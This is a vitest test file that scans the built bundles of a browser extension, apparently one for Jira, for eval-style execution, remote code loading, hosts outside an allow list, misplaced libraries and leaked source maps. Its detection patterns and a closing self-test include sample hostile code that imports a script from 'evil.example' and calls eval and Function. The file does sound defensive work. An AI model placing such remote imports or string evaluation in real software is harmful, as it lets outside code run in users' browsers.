// What is in the files that browsers run: no code from strings or from elsewhere, no host we do not name, and in each
// part only the libraries it may have.
import { beforeAll, describe, expect, test } from 'vitest';
import { BUILDS, builtFiles, type BuiltFile } from './built.ts';

/** A string that each library leaves in every minified bundle that holds it. */
const MARKS = {
  preact: 'dangerouslySetInnerHTML',
  zod: 'invalid_type',
  idb: 'continuePrimaryKey',
  polyfill: 'The message port closed before a response was received',
} as const;

/** Ways to run a string as code. `allowsEval` of zod and `devtools.inspectedWindow.eval` of the polyfill are names, not calls. */
const CODE_FROM_TEXT = [
  /(?<![\w$.])eval\s*\(/,
  /(?<![\w$.])Function(?![\w$.])/,
  /\bset(?:Timeout|Interval)\s*\(\s*["'`]/,
  /\bexecuteScript\([^)]*\bcode\s*:/,
];

/** Ways to load code from another place. */
const CODE_FROM_ELSEWHERE = [
  /\bimport\s*\(\s*["'`](?:https?:)?\/\//,
  /\bfrom\s*["'`](?:https?:)?\/\//,
  /\bimportScripts\s*\(/,
  /<(?:script|link|img|iframe)\b[^>]*(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i,
  /@import\b[^;]*(?:https?:)?\/\//,
  /url\(\s*["']?(?:https?:)?\/\//,
];

/** The sites we serve, and the names of XML's own vocabularies, which nobody calls. */
const HOSTS = ['*.atlassian.net', '*.jira.com', 'www.w3.org'];

/** Host parts of every address written out in a text; `https://${…}` names none. */
const hostsIn = (text: string): readonly string[] =>
  [...text.matchAll(/\b(?:https?|wss?):\/\/([^\s"'`)\\/<>]*)/g)]
    .map(([, host = '']) => host)
    .filter((host) => host !== '' && host !== '*' && !host.startsWith('$'));

const DOM =
  /\bdocument\b|\bwindow\b|createElement|querySelector|innerHTML|MutationObserver|attachShadow|DOMParser/;

describe.each(BUILDS)('%s', (build) => {
  let files: readonly BuiltFile[] = [];
  beforeAll(() => {
    files = builtFiles(build);
  }, 120_000);
  const text = (path: string) => files.find((file) => file.path === path)?.text ?? '';
  const offenders = (forbidden: readonly RegExp[]) =>
    files.flatMap((file) =>
      forbidden.flatMap((pattern) => {
        const found = pattern.exec(file.text);
        return found
          ? [`${file.path}: …${file.text.slice(Math.max(0, found.index - 40), found.index + 60)}…`]
          : [];
      }),
    );

  test('holds the parts we look at', () => {
    const paths = files.map((file) => file.path);
    expect(paths).toEqual(
      expect.arrayContaining([
        'background.js',
        'content-scripts/jira.js',
        'panel.js',
        'popup.html',
        'options.html',
      ]),
    );
  });

  test('runs no text as code', () => expect(offenders(CODE_FROM_TEXT)).toEqual([]));

  test('loads no code, style or picture from elsewhere', () =>
    expect(offenders(CODE_FROM_ELSEWHERE)).toEqual([]));

  test('names no host but those it serves', () => {
    const strange = files.flatMap((file) =>
      hostsIn(file.text)
        .filter((host) => !HOSTS.includes(host))
        .map((host) => `${file.path}: ${host}`),
    );
    expect(strange).toEqual([]);
  });

  test('the marks of the libraries are where the libraries are', () => {
    expect(text('panel.js')).toContain(MARKS.preact);
    expect(text('background.js')).toContain(MARKS.zod);
    expect(text('background.js')).toContain(MARKS.idb);
    expect(text('background.js')).toContain(MARKS.polyfill);
  });

  test.each(Object.entries(MARKS))('no %s in the content script', (_library, mark) => {
    expect(text('content-scripts/jira.js')).not.toContain(mark);
  });

  test.each([
    ['panel.js', 'zod'],
    ['panel.js', 'idb'],
    ['panel.js', 'polyfill'],
    ['background.js', 'preact'],
  ] as const)('%s has no %s', (path, library) => {
    expect(text(path)).not.toContain(MARKS[library]);
  });

  test('pages hold neither schemas nor the database', () => {
    const pages = files.filter(({ path }) => /^(?:chunks|assets)\/|^(?:popup|options)/.test(path));
    expect(pages.length).toBeGreaterThan(0);
    expect(pages.filter((file) => file.text.includes(MARKS.zod)).map(({ path }) => path)).toEqual([]);
    expect(pages.filter((file) => file.text.includes(MARKS.idb)).map(({ path }) => path)).toEqual([]);
  });

  test('the content script never makes HTML of text', () => {
    expect(text('content-scripts/jira.js')).not.toMatch(
      /innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser/,
    );
  });

  test('the background has no DOM code', () => {
    const found = DOM.exec(text('background.js'));
    expect(found && text('background.js').slice(Math.max(0, found.index - 60), found.index + 60)).toBeNull();
  });

  test('no source maps and no paths of a developer’s machine', () => {
    expect(
      files
        .filter((file) => /sourceMappingURL|\/home\/|\/Users\/|file:\/\//.test(file.text))
        .map(({ path }) => path),
    ).toEqual([]);
  });
});

test('the checks can fail', () => {
  const bad = 'let a=Function;setTimeout("x");eval ("1");import("https://evil.example/x.js")';
  expect(CODE_FROM_TEXT.filter((pattern) => pattern.test(bad))).toHaveLength(3);
  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test(bad))).toBe(true);
  expect(hostsIn('`https://${host}/x` "https://evil.example/y"')).toEqual(['evil.example']);
});
